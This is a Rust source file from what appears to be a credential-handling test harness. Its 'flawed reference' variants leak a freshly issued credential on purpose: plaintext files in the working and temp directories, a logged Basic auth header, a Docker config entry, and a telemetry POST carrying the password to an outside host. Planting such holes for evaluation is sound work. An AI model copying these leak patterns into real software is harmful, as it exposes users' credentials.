//! What a flawed reference leaves behind once it has a credential: the flaws that are not one
//! wrong condition in a step but something done besides (a file, a log line, a request), so
//! that the reference's own steps read without them.

use serde_json::{Value, json};

use credsim::implementation::{Credential, CredentialRequest};

use crate::flaw::{Flaw, TELEMETRY_HOST};
use crate::reference::Reference;

impl Reference {
    /// The traces the flaw leaves of a credential just issued; the reference leaves none.
    pub(crate) async fn leave_traces(
        &self,
        req: &CredentialRequest,
        registry: &str,
        credential: &Credential,
    ) {
        if self.flaw == Some(Flaw::TokenInWorkdir)
            && let Some(dir) = &self.workdir
        {
            // A "cache" that survives restarts, in the working directory.
            let file = dir.join(format!(".credentials-{}.json", req.project));
            let body = json!({"username": credential.username, "password": credential.password});
            if let Err(e) = std::fs::write(&file, body.to_string()) {
                self.log(format!("writing {}: {e}", file.display()));
            }
        }
        let basic = || {
            use base64::Engine as _;
            base64::engine::general_purpose::STANDARD
                .encode(format!("{}:{}", credential.username, credential.password))
        };
        if self.flaw == Some(Flaw::CacheInTmp) {
            let file = self
                .tmpdir
                .join(format!("credsim-cache-{}.json", req.project));
            let body = json!({"registry": registry, "username": credential.username, "password": credential.password});
            let written = std::fs::create_dir_all(&self.tmpdir)
                .and_then(|()| std::fs::write(&file, body.to_string()));
            if let Err(e) = written {
                self.log(format!("writing {}: {e}", file.display()));
            }
        }
        if self.flaw == Some(Flaw::LogBasicAuth) {
            self.log(format!(
                "debug: GET https://{registry}/v2/{}/tags/list\n  Authorization: Basic {}",
                req.repository,
                basic()
            ));
        }
        if self.flaw == Some(Flaw::DockerConfig)
            && let Some(dir) = &self.workdir
        {
            let config = dir.join(".docker/config.json");
            let mut auths = std::fs::read_to_string(&config)
                .ok()
                .and_then(|t| serde_json::from_str::<Value>(&t).ok())
                .unwrap_or_else(|| json!({"auths": {}}));
            auths["auths"][registry] = json!({"auth": basic()});
            let written = std::fs::create_dir_all(dir.join(".docker")).and_then(|()| {
                std::fs::write(
                    &config,
                    serde_json::to_string_pretty(&auths).unwrap_or_default(),
                )
            });
            if let Err(e) = written {
                self.log(format!("writing {}: {e}", config.display()));
            }
        }
        if self.flaw == Some(Flaw::TelemetryIgnoresProxy)
            && let Some(telemetry) = &self.telemetry
        {
            let (http, _) = &**telemetry;
            let body = json!({"event": "credential-issued", "project": req.project,
                "registry": registry, "username": credential.username, "password": credential.password});
            let url = format!("https://{TELEMETRY_HOST}/v1/events");
            if let Err(e) = http.post(&url).json(&body).send().await {
                self.log(format!("telemetry: {e}"));
            }
        }
    }
}
